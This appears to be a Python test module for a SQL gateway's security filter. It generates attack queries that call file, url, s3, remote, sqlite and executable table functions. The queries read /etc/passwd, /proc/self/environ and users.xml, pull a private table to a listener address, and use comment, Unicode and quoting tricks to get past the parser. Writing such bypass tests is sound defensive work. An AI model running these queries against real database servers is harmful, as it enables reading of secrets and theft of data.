"""Calls of every function and table function of the engine, with what each might open, in every dress."""

from __future__ import annotations

from collections.abc import Iterator

from tests.reader.attack import Attack, Must
from tests.reader.targets import Targets, lines

# Table functions that make rows of their arguments or read what the user may select anyway. Any other, also one that
# only a later engine has, must be refused in whatever way it is called.
OPEN_NOTHING = frozenset(
    [
        "SQLStandardValues",
        "dictionary",
        "eval",
        "format",
        "fuzzJSON",
        "fuzzQuery",
        "generateRandom",
        "generateSeries",
        "generate_series",
        "input",
        "loop",
        "merge",
        "mergeTreeAnalyzeIndexes",
        "mergeTreeAnalyzeIndexesUUID",
        "mergeTreeCodecBlockCounts",
        "mergeTreeIndex",
        "mergeTreeProjection",
        "mergeTreeTextIndex",
        "null",
        "numbers",
        "numbers_mt",
        "primes",
        "values",
        "view",
        "viewExplain",
        "viewIfPermitted",
        "zeros",
        "zeros_mt",
    ]
)


def _shapes(targets: Targets) -> list[str]:
    database, table = targets.private.split(".")
    url, listener = f"http://{targets.listener}", targets.listener
    part, evil, readable = targets.part, targets.evil, targets.readable[0]
    return [
        "",
        f"'{part}'",
        f"'{evil}'",
        f"'{part}', 'LineAsString'",
        f"'{evil}', 't'",
        f"'{readable}', 'LineAsString', 'line String'",
        f"'{url}/x'",
        f"'{url}/bucket/key', 'CSV'",
        f"'{url}/x', 'CSV', 'a String'",
        f"'{url}', 'd', 't', 'u', 'p'",
        f"'{listener}', {targets.private}",
        f"'{listener}', '{database}', '{table}', 'default', ''",
        f"'{listener}', 'd', 't', 'u', 'p'",
        f"'{database}', '{table}'",
        f"{database}, {table}",
        f"'{database}', '^.*$'",
        f"'default', {targets.private}",
        f"{targets.private}",
        f"SELECT * FROM {targets.private}",
        f"'SELECT * FROM {targets.private}'",
        f"'{database}', '{table}', 'primary'",
        "'id', 'LineAsString', 'line String'",
        "secret_collection",
        "10",
        f"'{readable}', 'CSV', 'a String DEFAULT file(''/etc/passwd'')'",
        f"'{url}/warehouse', 'key', 'secret', 'CSV', 'a String'",
    ]


def table_functions(names: list[str], targets: Targets) -> Iterator[Attack]:
    shapes = _shapes(targets)
    for name in names:
        must = Must.BE_HARMLESS if name in OPEN_NOTHING else Must.BE_REFUSED
        for shape in shapes:
            yield Attack(f"SELECT * FROM {name}({shape}) LIMIT 3", must)
        for shape in shapes[:8]:
            yield Attack(f"DESCRIBE TABLE {name}({shape})", must)
        for shape in shapes[1:12:2]:
            yield Attack(f"INSERT INTO FUNCTION {name}({shape}) SELECT 1")
        yield Attack(f"CREATE TABLE {targets.ours}_made AS {name}('{targets.part}')")
        yield Attack(f"EXPLAIN SELECT * FROM {name}('{targets.readable[0]}', 'LineAsString')", must)
        yield Attack(f"SELECT * FROM url('http://{targets.listener}', CSV, 'a String') AS u, {name}('{targets.part}')")


def disguised(targets: Targets) -> Iterator[Attack]:
    """Calls of what opens files and addresses, in every dress that the parser takes."""
    path, url = targets.readable[0], f"http://{targets.listener}/"
    calls = [
        f"file('{path}','LineAsString')",
        f"url('{url}','LineAsString')",
        f"sqlite('{targets.evil}','t')",
        f"s3('{url}b/k','CSV','a String')",
        f"remote('{targets.listener}',{targets.private})",
        "executable('id','LineAsString','l String')",
    ]
    for call in calls:
        name, rest = call.split("(", 1)
        heredoc = rest.replace("'", "$h$", 2)
        for dressed in (
            f"{name}/**/({rest}",
            f"{name}--x\n({rest}",
            f"{name} #x\n({rest}",
            f"{name} #!x\n({rest}",
            f"{name} //x\n({rest}",
            f"`{name}`({rest}",
            f'"{name}"({rest}',
            f"{name.upper()}({rest}",
            f"\u00a0{name}\u00a0({rest}",
            f"\u3000{name}\u2003({rest}",
            f"\t\v\f{name}\r\n({rest}",
            f"\u201c{name}\u201d({rest}",
            f"{name}({heredoc}",
            f"{name}({rest} AS t FINAL",
            f"{name}(({rest})",
            f"{name}/*/**/*/({rest}",
            f"{name}/* ' */({rest} -- '",
            f"'' AS a, {name}({rest}",
            f"`\\x{ord(name[0]):02x}{name[1:]}`({rest}",
            f"`{name[:-1]}\\{name[-1]}`({rest}",
        ):
            yield Attack(f"SELECT * FROM {dressed}")
        for around in lines("disguises.txt"):
            yield Attack(around.replace("{call}", call))
        yield Attack(f"\ufeffSELECT * FROM {call}")
        yield Attack(f"EXISTS TABLE {call}", Must.BE_HARMLESS)
        # These show the statement's own words.
        for explained in ("AST", "SYNTAX", "SYNTAX run_query_tree_passes = 1", "TABLE OVERRIDE"):
            yield Attack(f"EXPLAIN {explained} SELECT * FROM {call}", Must.BE_HARMLESS)


def scalar_functions(names: list[str], targets: Targets, *, whole: bool) -> Iterator[Attack]:
    """Every function that is no aggregate, with what it would read as its argument."""
    shapes = [f"'{targets.readable[0]}'"]
    if whole:
        private = targets.private
        shapes += ["", f"'{targets.readable[1]}', 'x'", f"'{private}'", f"'{private}', 1, 1", "'password'", "1", "1, 2"]
    for name in names:
        for shape in shapes:
            # Three seconds of sleep are the engine's own bound on an honest statement.
            if not (name.startswith("sleep") and shape.startswith("1")):
                yield Attack(f"SELECT {name}({shape})", Must.BE_HARMLESS)
        if whole:
            yield Attack(f"SELECT * APPLY {name} FROM (SELECT '{targets.readable[0]}' AS p)", Must.BE_HARMLESS)


def functions_without_parentheses(names: list[str], targets: Targets) -> Iterator[Attack]:
    """Every function as a value, which the engine takes where it takes a lambda. APPLY takes one too: see the files."""
    for name in names:
        yield Attack(f"SELECT arrayMap({name}, ['{targets.readable[0]}'])", Must.BE_HARMLESS)


def file_functions(targets: Targets) -> Iterator[Attack]:
    """What reads a file or a secret wherever an expression may stand."""
    for path in (
        *map(str, targets.readable), "users.xml", "../server/users.xml", "/etc/passwd", "/proc/self/environ",
        "/proc/self/maps", "/proc/self/cmdline",
    ):  # fmt: skip
        for around in lines("file_expressions.txt"):
            yield Attack(around.replace("{call}", f"file('{path}')").replace("{path}", path))
        yield Attack("SELECT file({p:String})", parameters={"param_p": path})
        # Names that come from outside of the text.
        named = {"param_f": "file", "param_p": path}
        for around in ("SELECT {f:Identifier}({p:String})", "SELECT arrayMap({f:Identifier}, [{p:String}])"):
            yield Attack(around, parameters=named)
        yield Attack("SELECT * APPLY {f:Identifier} FROM (SELECT {p:String} AS p)", parameters=named)
        # A DEFAULT that no row asks for.
        structure = f"a String DEFAULT file(''{path}'')"
        yield Attack(f"SELECT * FROM values('{structure}', ('x'))", Must.BE_HARMLESS)
        yield Attack(f"SELECT * FROM format(JSONEachRow, '{structure}', '{{}}')", Must.BE_HARMLESS)
        yield Attack(f"SELECT * FROM generateRandom('{structure}') LIMIT 1", Must.BE_HARMLESS)
